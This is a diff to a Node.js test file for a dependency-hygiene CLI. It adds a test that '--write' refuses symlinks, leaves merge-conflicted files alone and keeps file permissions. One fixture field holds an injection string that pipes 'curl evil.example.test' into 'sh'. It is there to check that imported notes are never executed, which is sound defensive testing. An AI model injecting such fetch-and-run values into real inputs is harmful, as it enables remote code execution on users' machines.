@@ -1,5 +1,14 @@
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync } from 'node:fs';
+import {
+  chmodSync,
+  existsSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import { makeProject, runCli } from './run-cli.ts';
@@ -60,6 +69,48 @@ describe('dephygiene ignores import', () => {
     assert.equal(readFileSync(join(folder, 'dependency-hygiene.json'), 'utf8'), written);
   });
 
+  test('--write writes through no link, over no conflict, and keeps permissions', {
+    skip: process.platform === 'win32',
+  }, () => {
+    const start = 'export PATH=/usr/bin\n';
+    const outside = makeProject({ 'start-file': start, 'folder/x': '' });
+    const folder = makeProject({
+      ...FILES,
+      '.nsprc': { [GHSA]: { active: true, notes: '"; curl evil.example.test | sh; "' } },
+    });
+    const policy = join(folder, 'dependency-hygiene.json');
+    const write = () => runCli(['ignores', 'import', folder, '--write']);
+    const refused = / is a symbolic link; nothing was written\.\n$/;
+
+    for (const target of [
+      join(outside, 'start-file'),
+      join(outside, 'not-there'),
+      join(folder, 'package.json'),
+    ]) {
+      symlinkSync(target, policy);
+      const { code, out, error } = write();
+      assert.deepEqual([code, out], [2, ''], target);
+      assert.match(error, refused);
+      rmSync(policy);
+    }
+    assert.equal(readFileSync(join(outside, 'start-file'), 'utf8'), start);
+    assert.ok(!existsSync(join(outside, 'not-there')));
+
+    const conflict = '{\n<<<<<<< ours\n  "exclude": []\n=======\n  "exclude": ["a"]\n>>>>>>> theirs\n}\n';
+    writeFileSync(policy, conflict);
+    assert.equal(write().code, 2);
+    assert.equal(readFileSync(policy, 'utf8'), conflict);
+
+    writeFileSync(policy, '{}\n');
+    chmodSync(policy, 0o640);
+    assert.equal(write().code, 0);
+    assert.equal(statSync(policy).mode & 0o777, 0o640);
+    assert.deepEqual(
+      readdirSync(folder).filter((name) => name.endsWith('.tmp')),
+      [],
+    );
+  });
+
   test('--from reads one file of any name', () => {
     const folder = makeProject({
       'package.json': { name: 'shop' },
@@ -89,7 +140,7 @@ describe('dephygiene ignores import', () => {
     const broken = makeProject({ ...FILES, 'dependency-hygiene.json': '{ "ignores": [' });
     assert.match(
       told('import', broken, '--write'),
-      /dependency-hygiene\.json is broken, so that nothing can be added/,
+      /dependency-hygiene\.json is not valid JSON, so that nothing can be added/,
     );
     assert.match(
       runCli(['ignores', 'import', folder]).out,
